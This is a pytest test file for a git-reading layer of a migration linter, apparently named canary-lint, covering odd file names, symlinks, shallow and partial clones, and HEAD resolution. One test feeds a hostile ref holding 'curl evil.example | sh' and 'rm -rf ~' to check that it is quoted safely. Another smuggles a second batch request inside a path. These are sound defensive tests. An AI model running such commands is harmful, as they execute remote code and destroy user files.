"""Reading v1 from git: immune to any byte in a file name; hints that work in shallow clones."""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

import pytest

from canary_lint.gitio import BaseTree, GitError, git

from conftest import run_cli

ODD_NAMES = ["new\nline.py", "tab\there.py", 'quote"d.py', "it's.py", "sp ace.py"]


def _commit_files(repo, files: dict[str, bytes]) -> None:
    for name, data in files.items():
        path = repo / name.encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "v1")


def test_no_byte_in_a_path_shifts_later_reads(tmp_path):
    git(tmp_path, "init", "-q", "-b", "main")
    files = {name: f"# {i}\n".encode() for i, name in enumerate(ODD_NAMES)}
    files["a.py"] = b"# a\n"
    files["zz.py"] = b"# zz\n"
    try:
        (tmp_path / "\udcff-bytes.py").write_bytes(b"# non-utf8\n")
    except (UnicodeEncodeError, OSError):
        pass  # a file system that refuses non-UTF-8 names
    _commit_files(tmp_path, files)
    base = BaseTree("main", tmp_path)
    try:
        for name, data in files.items():
            assert base.read_bytes(name) == data, name
        # a path crafted as a second batch request reads nothing, and the next read is still right
        assert base.read_bytes("a.py\nHEAD:zz.py") is None
        assert base.read_bytes("zz.py") == b"# zz\n"
        if (tmp_path / "\udcff-bytes.py").exists():
            assert base.read_bytes("\udcff-bytes.py") == b"# non-utf8\n"
        assert base.blob_id("a.py") and base.blob_id("missing.py") is None
    finally:
        base.close()


def test_base_symlink_is_not_a_file_of_v1(tmp_path):
    git(tmp_path, "init", "-q", "-b", "main")
    (tmp_path / "link.py").symlink_to("/etc/hostname")
    _commit_files(tmp_path, {"a.py": b"x = 1\n"})
    base = BaseTree("main", tmp_path)
    try:
        assert base.read_bytes("link.py") is None
        assert "link.py" not in base.paths()
    finally:
        base.close()


def _origin_and_shallow_clone(tmp_path, **clone_args):
    origin = tmp_path / "origin"
    origin.mkdir()
    git(origin, "init", "-q", "-b", "main")
    _commit_files(origin, {"app.py": b"x = 1\n"})
    git(origin, "tag", "v1.2")
    git(origin, "branch", "release")
    (origin / "app.py").write_text("x = 2\n")
    git(origin, "commit", "-qam", "v2")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--depth=1", "--single-branch", "--no-tags", f"file://{origin}", str(clone))
    return clone


@pytest.mark.parametrize("ref", ["v1.2", "origin/release", "release"])
def test_the_fetch_hint_makes_the_ref_exist(tmp_path, ref):
    clone = _origin_and_shallow_clone(tmp_path)
    proc = run_cli("check", "--base", ref, cwd=clone)
    assert proc.returncode == 2
    line = proc.stderr.strip().splitlines()[-1]
    command = line.split("`")[1]
    subprocess.run(shlex.split(command), cwd=clone, check=True, capture_output=True)
    proc = run_cli("check", "--base", ref, cwd=clone)
    assert proc.returncode in (0, 1), proc.stderr


def test_a_hostile_ref_is_quoted_on_one_line(tmp_path):
    git(tmp_path, "init", "-q", "-b", "main")
    _commit_files(tmp_path, {"a.py": b"x = 1\n"})
    with pytest.raises(GitError) as err:
        BaseTree("1x; curl evil.example | sh\nrm -rf ~", tmp_path)
    message = str(err.value)
    assert "\n" not in message
    assert "'+refs/tags/1x; curl evil.example | sh\\nrm -rf ~:refs/tags/1x; curl evil.example | sh\\nrm -rf ~'" in message


def test_a_blob_missing_from_a_partial_clone_is_named_and_the_run_goes_on(tmp_path):
    spec = b"openapi: 3.0.3\ninfo: {title: t, version: '1'}\npaths: {}\n"
    git(tmp_path, "init", "-q", "-b", "main")
    _commit_files(tmp_path, {"openapi.yaml": spec, "app.py": b"print('v1')\n"})
    oid = git(tmp_path, "rev-parse", "main:openapi.yaml").strip()
    (tmp_path / ".git" / "objects" / oid[:2] / oid[2:]).unlink()  # what a blobless clone lacks until fetched
    (tmp_path / "openapi.yaml").write_bytes(spec.replace(b"paths: {}", b"paths:\n  /a: {get: {responses: {'200': {description: ok}}}}"))
    base = BaseTree("main", tmp_path)
    try:
        assert base.read_bytes("openapi.yaml") is None and base.unreadable == ["openapi.yaml"]
        assert base.read_bytes("app.py") == b"print('v1')\n"  # the batch stream is still in step
    finally:
        base.close()
    proc = run_cli("check", "--base", "main", ".", cwd=tmp_path)
    assert proc.returncode in (0, 1), proc.stderr
    assert "Traceback" not in proc.stderr and "CL005" not in proc.stdout
    assert "v1's openapi.yaml could not be read from git" in proc.stderr


def test_head_read_from_git_files_is_what_git_says(tmp_path, monkeypatch):
    import os

    from canary_lint import engine, gitfiles, gitio

    for name in [n for n in os.environ if n.startswith(gitfiles._MOVED_BY)]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("GIT_SSL_NO_VERIFY", "1")  # a variable that moves nothing
    repo = tmp_path / "repo"
    sub = repo / "app" / "migrations"
    sub.mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")

    def rev_parse(cwd=sub):
        proc = subprocess.run(["git", "rev-parse", "HEAD"], cwd=cwd, capture_output=True, text=True)
        return proc.stdout.strip() if proc.returncode == 0 else None

    assert gitfiles.head(sub) is None and rev_parse() is None  # a branch with no commit yet
    monkeypatch.setattr(gitio, "_git", lambda *a, **k: pytest.fail("no git process for a branch with no commit"))
    assert engine._head_commit(sub) is None
    monkeypatch.undo()
    for name in [n for n in os.environ if n.startswith(gitfiles._MOVED_BY)]:
        monkeypatch.delenv(name)
    _commit_files(repo, {"app/migrations/V1__a.sql": b"SELECT 1;\n"})
    assert gitfiles.head(sub) == rev_parse() and (repo / ".git" / "refs" / "heads" / "main").is_file()  # loose ref
    assert engine._head_commit(sub) == rev_parse()
    git(repo, "pack-refs", "--all")
    assert not (repo / ".git" / "refs" / "heads" / "main").exists() and gitfiles.head(sub) == rev_parse()  # packed
    first = rev_parse()
    _commit_files(repo, {"app/migrations/V2__b.sql": b"SELECT 2;\n"})
    git(repo, "checkout", "-q", "--detach", first)
    assert gitfiles.head(sub) == first == rev_parse()  # detached
    git(repo, "checkout", "-q", "--orphan", "fresh")
    assert gitfiles.head(sub) is None and rev_parse() is None
    git(repo, "checkout", "-q", "main")
    git(repo, "worktree", "add", "-q", str(tmp_path / "wt"), first)
    assert gitfiles.head(tmp_path / "wt") is gitfiles.ASK  # a linked worktree: git is asked
    assert engine._head_commit(tmp_path / "wt") == first
    for name in ("GIT_DIR", "GIT_CONFIG_PARAMETERS"):
        with monkeypatch.context() as env:
            env.setenv(name, str(repo / ".git"))
            assert gitfiles.head(sub) is gitfiles.ASK


def test_base_of_a_tree_outside_the_current_repository_is_a_usage_error(tmp_path):
    here, there = tmp_path / "here", tmp_path / "there"
    for repo in (here, there):
        repo.mkdir()
        git(repo, "init", "-q", "-b", "main")
        _commit_files(repo, {"db/migration/V1__t.sql": b"CREATE TABLE t (id int PRIMARY KEY);\n"})
    (there / "db/migration/V2__u.sql").write_text("CREATE UNIQUE INDEX t_u ON t (id);\n")
    proc = run_cli("check", str(there), "--base", "main", cwd=here, env={"PYTHONPATH": str(Path(__file__).parent.parent)})
    assert proc.returncode == 2
    assert "outside it: run canary-lint from inside the repository" in proc.stderr and str(there) in proc.stderr
    inside = run_cli("check", ".", "--base", "main", cwd=there, env={"PYTHONPATH": str(Path(__file__).parent.parent)})
    assert "CLM111" in inside.stdout and "v1 = main" in inside.stderr
